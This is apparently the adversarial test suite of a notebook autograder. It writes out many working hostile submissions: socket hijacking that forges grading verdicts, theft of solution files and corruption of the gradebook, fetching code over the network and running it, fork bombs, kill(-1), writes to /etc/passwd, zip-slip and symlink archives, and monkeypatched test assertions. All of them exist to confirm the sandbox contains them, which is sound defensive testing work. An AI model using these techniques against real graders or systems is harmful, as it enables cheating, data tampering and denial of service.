"""The attack corpus: hostile and broken submissions graded in one run with honest ones.

Each attack targets a row of the threat model (../shared/design/grading-threat-model.md)
or one of its eight guarantees. For each we assert the score (0 for every cheat), the
status and the message; the honest submissions in the same run must get exactly their
expected scores; the course folder must be unchanged; no process may outlive the run.
"""

from __future__ import annotations

import csv
import hashlib
import http.server
import os
import subprocess
import sys
import threading
import time
import uuid
import zipfile
from pathlib import Path

import nbformat
import pytest
from notebook_tools import REPO, learner_notebook

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("grading")]

MAX = 11  # softmax 3, sdpa 3, sdpa masks 2, additive 3
RIGHT = {"softmax": "reference", "scaled_dot_product_attention": "reference", "additive_attention": "reference"}
WRONG = {
    "softmax": "def softmax(x, dim=-1):\n    return x / x.sum(dim, keepdim=True)",
    "scaled_dot_product_attention": "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                    "    w = q @ k.transpose(-2, -1)\n    return w @ v, w",
    "additive_attention": "def additive_attention(q, k, v, w_q, w_k, w_v, mask=None):\n"
                          "    w = (q @ w_q) @ (k @ w_k).transpose(-2, -1)\n    return w @ v, w",
}
MARKER = Path("/tmp") / f"qkv-attack-{uuid.uuid4().hex}"  # attacks try to create this on the host


def SOFTMAX_BY(expression: str) -> str:  # noqa: N802 - reads as a constructor of answers
    return f"def softmax(x, dim=-1):\n    return {expression}"


# Hold the channel and answer later requests with forged verdicts (#15 item 1).
TAKEOVER = '''
import json, os, socket, stat, struct, threading
def _forge(fd):
    s = socket.socket(fileno=os.dup(fd))
    while True:
        try:
            s.recv(1 << 16)
        except OSError:
            return
        forged = {"event": "result", "value": None, "args": {"__dict__": []}, "kwargs": {"__dict__": []}}
        body = json.dumps(forged).encode()
        s.sendall(struct.pack(">Q", len(body)) + body)
def _is_socket(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False
_fds = [fd for fd in range(3, 256) if _is_socket(fd)]
if os.fork() == 0:
    os.setsid()
    for _fd in _fds:
        threading.Thread(target=_forge, args=(_fd,), daemon=True).start()
    threading.Event().wait()
'''
# Fill /tmp below a path too deep to delete by name, and /dev/shm (#15 item 4).
DEEP_TMP = '''
import os
os.chdir("/tmp")
for _ in range(300):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
try:
    open("filler", "wb").write(b"x" * (2**30))
except OSError:
    pass
os.chdir("/tmp")
try:
    open("/dev/shm/filler", "wb").write(b"x" * (2**30))
except OSError:
    pass
'''
# Pin System V shared memory beyond the address-space limit (#15 item 4).
SHM_PIN = '''
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
for _ in range(3):
    _id = _libc.shmget(0, 2 * 2**30, 0o1600)
    if _id >= 0:
        _addr = _libc.shmat(_id, None, 0)
'''
# Keep writing protocol messages, as the old grader renewed its deadline on each (#15 item 5).
CHATTY = '''
import json, os, stat, struct, time
_fd = next(fd for fd in range(3, 256) if os.path.exists(f"/proc/self/fd/{fd}") and stat.S_ISSOCK(os.fstat(fd).st_mode))
while True:
    _body = json.dumps({"event": "cell_start", "index": 0}).encode()
    os.write(_fd, struct.pack(">Q", len(_body)) + _body)
    time.sleep(0.1)
'''


def with_cell(nb, source: str, position: int = 2):
    """Insert a learner-added code cell (no nbgrader metadata)."""
    nb.cells.insert(position, nbformat.v4.new_code_cell(source))
    return nb


def _zip(path: Path, members: dict[str, bytes], symlinks: dict[str, str] | None = None):
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
        for name, target in (symlinks or {}).items():
            info = zipfile.ZipInfo(name)
            info.external_attr = (0o120777 << 16)
            zf.writestr(info, target)


def _tree_digest(*folders: Path) -> str:
    h = hashlib.sha256()
    for folder in folders:
        for p in sorted(folder.rglob("*")):
            if p.is_file() and "__pycache__" not in p.parts:
                h.update(str(p.relative_to(folder)).encode())
                h.update(p.read_bytes())
    return h.hexdigest()


def _sandbox_processes() -> list[str]:
    """Processes of this checkout's sandboxes still alive (other checkouts on the machine may grade too)."""
    from autograder.sandbox import WORKER
    found = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                cmdline = (d / "cmdline").read_bytes()
            except OSError:
                continue
            if b"sandbox_worker.py" in cmdline and (sys.prefix.encode() in cmdline or str(WORKER).encode() in cmdline):
                found.append(f"{d.name}: {cmdline[:120]!r}")
    return found


@pytest.fixture(scope="module")
def solution_server():
    """An HTTP server on loopback serving the solution notebook: reachable from the host, not from the sandbox."""
    solution = (REPO / "solutions" / "attention" / "attention.ipynb").read_bytes()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.end_headers()
            self.wfile.write(solution)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()


def _build_class(root: Path, out: Path, url: str) -> Path:
    subs = root / "submissions"
    subs.mkdir()

    def put(student: str, nb) -> None:
        (subs / student).mkdir()
        nbformat.write(nb, subs / student / "attention.ipynb")

    steal = f'''
import glob, json, os
_candidates = [{str(REPO / "solutions" / "attention" / "attention.ipynb")!r}, {str(out / "course" / "source" / "attention" / "attention.ipynb")!r}]
_candidates += glob.glob({str(REPO.parent)!r} + "/**/solutions/**/*.ipynb", recursive=True)
for _path in _candidates:
    try:
        _nb = json.load(open(_path))
    except Exception:
        continue
    for _cell in _nb["cells"]:
        if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
            exec("".join(_cell["source"]))
    break
for _db in [{str(out / "course" / "gradebook.db")!r}]:
    try:
        open(_db, "ab").write(b"corrupted")
    except Exception:
        pass
'''
    honest = {
        "ada": learner_notebook("attention", RIGHT),
        "ben": learner_notebook("attention", {"softmax": "reference", "scaled_dot_product_attention":
                                              "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                              "    w = softmax(q @ k.transpose(-2, -1), dim=-1)  # no 1/sqrt(d_k)\n"
                                              "    return w @ v, w"}),
        "cy": learner_notebook("attention", {**RIGHT, "additive_attention": "def additive_attention(q, k, v,:\n    pass"}),
        "gus": learner_notebook("attention", {}),
    }
    for student, nb in honest.items():
        put(student, nb)

    attacks = {
        # --- rows of the threat-model table
        "custom_exc": with_cell(learner_notebook("attention", WRONG),
                                "get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)"),
        "input_transformer": with_cell(learner_notebook("attention", WRONG),
                                       "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"),
        "patch_asserts": with_cell(learner_notebook("attention", WRONG),
                                   "import numpy.testing, torch, torch.testing\n"
                                   "torch.allclose = lambda *a, **k: True\n"
                                   "torch.equal = lambda *a, **k: True\n"
                                   "numpy.testing.assert_allclose = lambda *a, **k: None\n"
                                   "torch.testing.assert_close = lambda *a, **k: None"),
        "builtin_calls": learner_notebook("attention", {
            "softmax": "def softmax(x, dim=-1):\n    return torch.softmax(x, dim)",
            "scaled_dot_product_attention": "import torch.nn.functional as F\n"
                                            "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                            "    return F.scaled_dot_product_attention(q, k, v, attn_mask=mask), None",
            "additive_attention": "def additive_attention(q, k, v, w_q, w_k, w_v, mask=None):\n"
                                  "    w = (torch.tanh((q @ w_q).unsqueeze(-2) + (k @ w_k).unsqueeze(-3)) @ w_v).softmax(-1)\n"
                                  "    return w @ v, w"}),
        "read_course_files": with_cell(learner_notebook("attention", WRONG), steal, position=len(learner_notebook("attention", {}).cells)),
        "detached_editor": with_cell(learner_notebook("attention", WRONG), f'''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(4)
        for _p in [{str(out / "course" / "gradebook.db")!r}, {str(MARKER)!r}]:
            try:
                open(_p, "ab").write(b"changed after grading")
            except Exception:
                pass
    os._exit(0)
'''),
        "loop_at_top": with_cell(learner_notebook("attention", RIGHT), "while True:\n    pass"),
        "loop_in_function": learner_notebook("attention", {**RIGHT, "scaled_dot_product_attention":
                                                           "def scaled_dot_product_attention(q, k, v, mask=None):\n    while True:\n        pass"}),
        "ignores_signals": learner_notebook("attention", {**RIGHT, "scaled_dot_product_attention":
                                                          "import signal\n"
                                                          "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                                          "    for s in (signal.SIGINT, signal.SIGALRM, signal.SIGTERM):\n"
                                                          "        signal.signal(s, signal.SIG_IGN)\n"
                                                          "    while True:\n        pass"}),
        "os_exit": learner_notebook("attention", {**RIGHT, "scaled_dot_product_attention":
                                                  "import os\ndef scaled_dot_product_attention(q, k, v, mask=None):\n    os._exit(0)"}),
        "segfault": learner_notebook("attention", {**RIGHT, "additive_attention":
                                                   "import os\ndef additive_attention(*args):\n"
                                                   "    os.abort()  # glibc ends in a fault: SIGSEGV"}),
        "memory_hog": learner_notebook("attention", {**RIGHT, "additive_attention":
                                                     "def additive_attention(*args):\n"
                                                     "    return torch.ones(30 * 2**30, dtype=torch.uint8)"}),
        "print_flood": with_cell(learner_notebook("attention", RIGHT),
                                 "import sys\nfor _ in range(200):\n    sys.stdout.write('x' * 2**20)"),
        "warns_but_correct": with_cell(learner_notebook("attention", RIGHT),
                                       "import warnings, sys\n_orig = softmax\n"
                                       "def softmax(x, dim=-1):\n"
                                       "    warnings.warn('this is only a warning')\n"
                                       "    print('noise on stderr', file=sys.stderr)\n"
                                       "    return _orig(x, dim)", position=5),
        # --- guarantees
        "fake_tensor": learner_notebook("attention", {
            "softmax": "class _Sub(torch.Tensor):\n    pass\n"
                       "def softmax(x, dim=-1):\n    return torch.zeros_like(x).as_subclass(_Sub)",
            "scaled_dot_product_attention": "class _Always:\n    def __eq__(self, other):\n        return True\n"
                                            "def scaled_dot_product_attention(q, k, v, mask=None):\n"
                                            "    return _Always(), _Always()"}),
        "imports_qkv": learner_notebook("attention", {
            "softmax": "from qkv.attention import softmax",
            "scaled_dot_product_attention": "import qkv.attention as _a\nscaled_dot_product_attention = _a.scaled_dot_product_attention",
            "additive_attention": "additive_attention = __import__('qkv.attention').attention.additive_attention"}),
        "network": with_cell(learner_notebook("attention", WRONG), f'''
import json, urllib.request
try:
    _nb = json.loads(urllib.request.urlopen({url!r}, timeout=2).read())
    for _cell in _nb["cells"]:
        if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
            exec("".join(_cell["source"]))
except Exception as _exc:
    print("no network:", _exc)
''', position=len(learner_notebook("attention", {}).cells)),
        "many_processes": with_cell(learner_notebook("attention", RIGHT), '''
import os, time
for _ in range(5000):
    if os.fork() == 0:
        time.sleep(120)
        os._exit(0)
''', position=len(learner_notebook("attention", {}).cells)),
        "write_outside": with_cell(learner_notebook("attention", WRONG), f'''
for _p in [{str(REPO / "exercises" / "attention" / "attention.ipynb")!r}, {str(REPO / "solutions" / "attention" / "attention.ipynb")!r},
           "/etc/passwd", {str(MARKER)!r}, {str(root / "submissions" / "ada" / "attention.ipynb")!r}]:
    try:
        open(_p, "w").write("overwritten")
    except Exception as _exc:
        print("denied:", _p, type(_exc).__name__)
'''),
        "privileges": with_cell(learner_notebook("attention", WRONG), '''
import os
_status = open("/proc/self/status").read()
_cap = int([l for l in _status.splitlines() if l.startswith("CapEff")][0].split()[1], 16)
if os.getuid() == 0 or _cap != 0:  # privileged: a correct softmax would score (it is not)
    def softmax(x, dim=-1):
        e = (x - x.amax(dim, keepdim=True)).exp()
        return e / e.sum(dim, keepdim=True)
''', position=len(learner_notebook("attention", {}).cells)),
        "kill_everything": with_cell(learner_notebook("attention", RIGHT), "import os, signal\nos.kill(-1, signal.SIGKILL)"),
        # --- banned operations reached at run time (#10): spellings the static scan cannot see
        "banned_assembled": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "getattr(torch, 'soft' + 'max')(x, dim)")}),
        "banned_vars": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "vars(torch.nn.functional)['softmax'](x, dim)")}),
        "banned_ops_aten": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "torch.ops.aten._softmax(x, dim, False)")}),
        "banned_method": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "__import__('operator').methodcaller('soft' + 'max', dim)(x)")}),
        "banned_in_thread": learner_notebook("attention", {**RIGHT, "softmax":
                                                           "import threading\n"
                                                           "def softmax(x, dim=-1):\n"
                                                           "    box = []\n"
                                                           "    t = threading.Thread(target=lambda: box.append("
                                                           "getattr(x, 'soft' + 'max')(dim)))\n"
                                                           "    t.start()\n    t.join()\n    return box[0]"}),
        "banned_import": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "__import__('q' + 'kv.attention', fromlist=['x']).softmax(x, dim)")}),
        "lifts_the_block": learner_notebook("attention", {**RIGHT, "softmax": SOFTMAX_BY(
            "[o._destroy() for o in __import__('gc').get_objects() if type(o).__name__ == 'Library'] "
            "and getattr(torch, 'soft' + 'max')(x, dim)")}),
        # --- one learner process must not reach the next (#15 items 1 and 4)
        "takeover": with_cell(learner_notebook("attention", {}), TAKEOVER),
        "colluder": learner_notebook("attention", {}),
        "deep_tmp": with_cell(learner_notebook("attention", RIGHT), DEEP_TMP),
        "shm_pin": with_cell(learner_notebook("attention", RIGHT), SHM_PIN),
        "chatty": with_cell(learner_notebook("attention", RIGHT), CHATTY),
        "tampered_tests": learner_notebook("attention", WRONG),
    }
    for cell in attacks["tampered_tests"].cells:  # rewrite every test cell to pass, and delete one
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade"):
            cell.source = "pass"
    attacks["tampered_tests"].cells = [c for c in attacks["tampered_tests"].cells
                                       if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != "test_additive_attention"]
    for student, nb in attacks.items():
        put(student, nb)

    # --- input hygiene (guarantee 8) and broken uploads
    good = nbformat.writes(learner_notebook("attention", RIGHT)).encode()
    _zip(subs / "traversal.zip", {"../../escaped.txt": b"x", "attention.ipynb": good})
    _zip(subs / "absolute.zip", {"/tmp/absolute.txt": b"x", "attention.ipynb": good})
    _zip(subs / "symlink.zip", {"attention.ipynb": good}, symlinks={"link": "/etc/passwd"})
    _zip(subs / "bomb.zip", {"attention.ipynb": good, "zeros.bin": b"\0" * (200 * 2**20)})
    (subs / "twice").mkdir()
    nbformat.write(learner_notebook("attention", RIGHT), subs / "twice" / "attention.ipynb")
    _zip(subs / "twice.zip", {"attention.ipynb": good})
    (subs / "truncated").mkdir()
    (subs / "truncated" / "attention.ipynb").write_bytes(good[: len(good) // 2])
    (subs / "no_notebook").mkdir()
    (subs / "no_notebook" / "answers.py").write_text("print('hi')")
    os.mkdir(os.fsencode(subs) + b"/bad\xffname")
    _zip(subs / "zipped_ok.zip", {"zipped_ok/attention.ipynb": good})
    return subs


@pytest.fixture(scope="module")
def attacked_run(tmp_path_factory, solution_server):
    root = tmp_path_factory.mktemp("attacks")
    out = root / "out"
    subs = _build_class(root, out, solution_server)
    watched = (REPO / "solutions" / "attention", REPO / "exercises" / "attention", subs)
    before = _tree_digest(*watched)
    started = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "autograder", "grade", "attention", str(subs), "--out", str(out),
                           "--timeout", "4"], capture_output=True, text=True, timeout=1500)
    elapsed = time.monotonic() - started
    rows = {}
    if (out / "grades.csv").exists():
        with open(out / "grades.csv") as fh:
            rows = {r["student_id"]: r for r in csv.DictReader(fh)}
    time.sleep(5)  # long enough for the detached process to have acted, had it survived
    return {"proc": proc, "rows": rows, "out": out, "before": before, "after": _tree_digest(*watched),
            "elapsed": elapsed, "leftovers": _sandbox_processes()}


def _row(run, student):
    assert student in run["rows"], f"{student} missing from grades.csv:\n{run['proc'].stdout[-3000:]}\n{run['proc'].stderr[-3000:]}"
    row = run["rows"][student]
    return float(row["score"]), row["status"], row["message"]


def test_run_completes(attacked_run):
    assert attacked_run["proc"].returncode == 0, attacked_run["proc"].stderr[-4000:]


@pytest.mark.parametrize("student, score", [("ada", MAX), ("ben", 3), ("cy", MAX - 3), ("gus", 0), ("zipped_ok", MAX)])
def test_honest_submissions_get_exactly_their_scores(attacked_run, student, score):
    assert _row(attacked_run, student)[:2] == (score, "graded")


@pytest.mark.parametrize("student", ["custom_exc", "input_transformer", "patch_asserts", "read_course_files",
                                     "detached_editor", "network", "write_outside", "tampered_tests", "privileges"])
def test_cheats_on_a_wrong_answer_score_zero(attacked_run, student):
    assert _row(attacked_run, student)[:2] == (0, "graded")


def test_builtin_calls_are_banned_with_a_reason(attacked_run):
    score, status, message = _row(attacked_run, "builtin_calls")
    assert (score, status) == (0, "graded")
    for name in ("torch.softmax", "torch.nn.functional.scaled_dot_product_attention", "torch.Tensor.softmax"):
        assert name in message
    html = (attacked_run["out"] / "feedback" / "builtin_calls" / "attention.html").read_text()
    assert "which this exercise asks you to implement yourself" in html


def test_importing_qkv_is_banned(attacked_run):
    score, status, message = _row(attacked_run, "imports_qkv")
    assert (score, status) == (0, "graded") and "imports qkv" in message


def test_non_plain_return_values_are_rejected(attacked_run):
    assert _row(attacked_run, "fake_tensor")[:2] == (0, "graded")
    html = (attacked_run["out"] / "feedback" / "fake_tensor" / "attention.html").read_text()
    assert "return plain tensors" in html


@pytest.mark.parametrize("student, score, why", [
    ("loop_at_top", MAX, "did not finish within 4 s"),       # the hung cell is skipped; the answers still count
    ("loop_in_function", MAX - 5, ""),                   # sdpa (3 + 2) times out, the rest passes
    ("ignores_signals", MAX - 5, ""),                    # killed from outside after its deadline
    ("os_exit", MAX - 5, ""),
    ("segfault", MAX - 3, ""),
    ("memory_hog", MAX - 3, ""),
    ("print_flood", MAX, ""),
    ("warns_but_correct", MAX, ""),                     # no false zero for stderr output
    ("many_processes", MAX, ""),
    ("kill_everything", MAX, ""),                        # kill(-1) reaches neither the grader nor the zygote
])
def test_crashes_and_hangs_cost_only_the_affected_tests(attacked_run, student, score, why):
    got, status, message = _row(attacked_run, student)
    assert (got, status) == (score, "graded"), message
    assert why in message


def test_timeouts_and_crashes_are_explained_in_feedback(attacked_run):
    fb = attacked_run["out"] / "feedback"
    assert "did not return within 4 s" in (fb / "loop_in_function" / "attention.html").read_text()
    assert "ended the grader" in (fb / "os_exit" / "attention.html").read_text()
    assert "ended the grader" in (fb / "segfault" / "attention.html").read_text()


def test_output_flood_is_capped(attacked_run):
    page = attacked_run["out"] / "feedback" / "print_flood" / "attention.html"
    assert page.stat().st_size < 2 * 2**20
    graded = attacked_run["out"] / "course" / "autograded" / "print_flood" / "attention" / "attention.ipynb"
    assert graded.stat().st_size < 2 * 2**20


@pytest.mark.parametrize("student, fragment", [
    ("traversal", "unsafe path"), ("absolute", "unsafe path"), ("symlink", "symbolic link"),
    ("bomb", "more than 50 MiB"), ("twice", "2 submissions"), ("truncated", "not valid notebook JSON"),
    ("no_notebook", "no notebook"), ("bad_name", "invalid student id"),
])
def test_bad_uploads_are_rejected_with_a_message(attacked_run, student, fragment):
    score, status, message = _row(attacked_run, student)
    assert (score, status) == (0, "error") and fragment in message
    assert f"error: {student}:" in attacked_run["proc"].stdout + attacked_run["proc"].stderr


def test_nothing_escaped_from_an_archive(attacked_run, tmp_path):
    assert not Path("/tmp/absolute.txt").exists()
    assert not list(attacked_run["out"].parent.rglob("escaped.txt"))


def test_feedback_never_shows_hidden_tests(attacked_run):
    hidden_lines = []
    solution = nbformat.read(REPO / "solutions" / "attention" / "attention.ipynb", as_version=4)
    for cell in solution.cells:
        if "### BEGIN HIDDEN TESTS" in cell.source:
            block = cell.source.split("### BEGIN HIDDEN TESTS")[1].split("### END HIDDEN TESTS")[0]
            hidden_lines += [ln.strip() for ln in block.splitlines() if len(ln.strip()) > 20]
    assert hidden_lines
    for page in (attacked_run["out"] / "feedback").rglob("*.html"):
        text = page.read_text()
        assert "HIDDEN TESTS" not in text, page
        for line in hidden_lines:
            assert line not in text, (page, line)


def test_hidden_failures_name_the_misconception_not_the_inputs(attacked_run):
    html = (attacked_run["out"] / "feedback" / "ben" / "attention.html").read_text()
    assert "without the 1/√d_k scale" in html


@pytest.mark.parametrize("student, fragment", [
    ("banned_assembled", "calls torch.softmax (reached at run time"),
    ("banned_vars", "calls torch.nn.functional.softmax (reached at run time"),
    ("banned_ops_aten", "aten::_softmax"),
    ("banned_method", "calls torch.Tensor.softmax (reached at run time"),
    ("banned_in_thread", "reached at run time as aten::"),
    ("banned_import", "imports qkv at run time"),
    ("lifts_the_block", "gc.get_objects"),
])
def test_banned_operations_reached_at_run_time_score_zero(attacked_run, student, fragment):
    score, status, message = _row(attacked_run, student)
    assert (score, status) == (0, "graded") and fragment in message, message
    html = (attacked_run["out"] / "feedback" / student / "attention.html").read_text()
    assert "Scored 0: your code" in html


@pytest.mark.parametrize("student, score", [("takeover", 0), ("colluder", 0), ("deep_tmp", MAX), ("shm_pin", MAX),
                                            ("chatty", MAX)])
def test_no_submission_reaches_another(attacked_run, student, score):
    """Whatever order the workers took them in, the attackers' own scores are their answers'
    (none for the channel thieves), and the honest students around them are exact
    (test_honest_submissions_get_exactly_their_scores)."""
    assert _row(attacked_run, student)[:2] == (score, "graded")


def test_course_folder_unchanged_and_no_process_survives(attacked_run):
    assert attacked_run["after"] == attacked_run["before"]
    assert not MARKER.exists()
    assert attacked_run["leftovers"] == []


def test_gradebook_agrees_with_the_csv(attacked_run):
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{attacked_run['out'] / 'course' / 'gradebook.db'}") as gb:
        for student, row in attacked_run["rows"].items():
            if row["status"] == "graded":
                assert gb.find_submission("attention", student).score == float(row["score"])


def test_summary_and_report(attacked_run):
    out, stdout = attacked_run["out"], attacked_run["proc"].stdout
    graded = sum(r["status"] == "graded" for r in attacked_run["rows"].values())
    errors = len(attacked_run["rows"]) - graded
    assert f"{len(attacked_run['rows'])} submissions: {graded} graded, {errors} errors, 9 rejected cheats" in stdout
    assert (out / "score-distribution.png").stat().st_size > 1000
    report = (out / "report.md").read_text()
    assert "| test_softmax |" in report and "builtin_calls" in report
